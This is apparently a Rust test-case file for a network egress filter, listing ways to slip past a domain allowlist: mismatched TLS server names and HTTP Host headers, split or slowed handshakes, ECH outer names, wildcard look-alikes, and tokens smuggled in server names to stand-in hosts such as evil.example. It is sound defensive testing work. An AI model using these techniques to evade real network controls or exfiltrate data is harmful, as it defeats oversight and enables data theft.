//! Names: several on one address, names that are nearly allowed, names that are said to one and not to the other.

use crate::internet::programs::Program::{Curl, Node, Own, Requests};
use crate::internet::trick::Proof::{Arrives, Secret};
use crate::internet::trick::{Trick, tricks};

pub(super) fn tricks() -> Vec<Trick> {
    let admin = Secret("admin.shop.example");
    let nameless = Secret("nameless.shop.example");
    tricks! {
        // 2: one address, several names. TLS.
        2 "other server name on an allowed address" Curl ["--resolve", "admin.shop.example:443:93.184.216.10", "https://admin.shop.example/{token}"] admin;
        2 "other server name on an allowed address" Node ["get", "https://admin.shop.example/{token}"] admin;
        2 "other server name on an allowed address" Requests ["https://admin.shop.example/{token}"] admin;
        2 "page without a server name" Curl ["--insecure", "https://93.184.216.10/{token}"] nameless;
        2 "other server name, whole connection" Own ["tls.page", "93.184.216.10", "443", "admin.shop.example", "admin.shop.example"] admin;
        2 "other server name, hello by hand" Own ["tls.hello", "93.184.216.10", "443", "admin.shop.example"] admin;
        2 "no server name" Own ["tls.hello", "93.184.216.10", "443"] nameless;
        2 "server name in upper case" Own ["tls.odd", "93.184.216.10", "443", "admin.shop.example"] admin;
        2 "server name split over records" Own ["tls.records", "93.184.216.10", "443", "admin.shop.example"] admin;
        2 "server name split over segments" Own ["tls.segments", "93.184.216.10", "443", "admin.shop.example"] admin;
        2 "hello byte by byte" Own ["tls.slowly", "93.184.216.10", "443", "admin.shop.example"] admin;
        2 "server name behind 12 kilobytes" Own ["tls.last", "93.184.216.10", "443", "admin.shop.example"] admin;
        2 "outer name of ECH is another one" Own ["tls.encrypted", "93.184.216.10", "443", "admin.shop.example"] admin;
        2 "second of two server names in a list" Own ["tls.hello", "93.184.216.10", "443", "api.shop.example", "{token}.evil.example"] Arrives;
        2 "first of two server names in a list" Own ["tls.hello", "93.184.216.10", "443", "{token}.evil.example", "api.shop.example"] Arrives;
        2 "second of two extensions of server names" Own ["tls.twice", "93.184.216.10", "443", "api.shop.example", "{token}.evil.example"] Arrives;
        2 "server name as a letter" Own ["tls.hello", "93.184.216.10", "443", "{token}.api.shop.example"] Arrives;
        2 "allowed name at the address of another allowed name" Own ["tls.hello", "93.184.216.20", "443", "api.shop.example"] Secret("img.cdn.example");
        2 "allowed Host at the address of another allowed name" Own ["http1.ask", "93.184.216.20", "80", "api.shop.example"] Secret("img.cdn.example");
        2 "other server name by IPv6" Own ["tls.hello", "2606:2800:220::10", "443", "admin.shop.example"] admin;
        2 "allowed name at a forbidden address" Own ["tls.page", "93.184.216.66", "443", "api.shop.example", "evil.example"] Secret("evil.example");
        2 "other Host inside of TLS" Own ["tls.page", "93.184.216.10", "443", "api.shop.example", "admin.shop.example"] admin, open("what is inside of TLS is seen by the server alone; a server that has other names there must check itself");
        // 2: the same over plain HTTP.
        2 "Host of another name" Own ["http1.ask", "93.184.216.10", "80", "admin.shop.example"] admin;
        2 "Host of another name in the second request" Own ["http1.ask", "93.184.216.10", "80", "api.shop.example", "admin.shop.example"] admin;
        2 "Host of another name, pipelined" Own ["http1.pipelined", "93.184.216.10", "80", "api.shop.example", "admin.shop.example"] admin;
        2 "Host of another name on port 8080" Own ["http1.ask", "93.184.216.10", "8080", "admin.shop.example"] admin;
        2 "target names another host than the field" Own ["http1.absolute", "93.184.216.10", "80", "api.shop.example", "admin.shop.example"] admin;
        2 "target names a host, and no field does" Own ["http1.forwarded", "93.184.216.10", "80", "admin.shop.example"] admin;
        2 "lines that end as on Unix" Own ["http1.unixy", "93.184.216.10", "80", "admin.shop.example"] admin;
        2 "no Host" Own ["http1.nameless", "93.184.216.10", "80"] nameless;
        2 "HTTP/1.0 with another Host" Own ["http1.old", "93.184.216.10", "80", "admin.shop.example"] admin;
        2 "request behind a body" Own ["http1.body", "93.184.216.10", "80", "api.shop.example", "admin.shop.example"] admin;
        2 "request behind a chunked body" Own ["http1.chunked", "93.184.216.10", "80", "api.shop.example", "admin.shop.example"] admin;
        2 "oddly written Host" Own ["http1.blank", "93.184.216.10", "80", "api.shop.example", "admin.shop.example"] admin;
        2 "request byte by byte" Own ["http1.slowly", "93.184.216.10", "80", "admin.shop.example"] admin;
        2 "Host that curl is told to say" Curl ["--header", "Host: admin.shop.example", "http://api.shop.example/{token}"] admin;
        // 6: what a wildcard does not mean.
        6 "name that ends like a wildcard's" Curl ["https://evil-cdn.example/{token}"] Secret("evil-cdn.example");
        6 "name that a wildcard stands beneath" Curl ["https://cdn.example/{token}"] Secret("cdn.example");
        6 "name that begins like a wildcard's" Curl ["https://cdn.example.evil.example/{token}"] Secret("cdn.example.evil.example");
        6 "anything at all beside a wildcard" Node ["get", "https://evil.example/{token}"] Secret("evil.example");
        6 "address beside a wildcard" Own ["streams.connect", "93.184.216.22", "80", "GET /{token} HTTP/1.0\r\nHost: evil-cdn.example\r\n\r\n"] Secret("evil-cdn.example");
        6 "forbidden name at a wildcard's address" Own ["tls.hello", "93.184.216.20", "443", "evil-cdn.example"] Secret("img.cdn.example");
    }
}
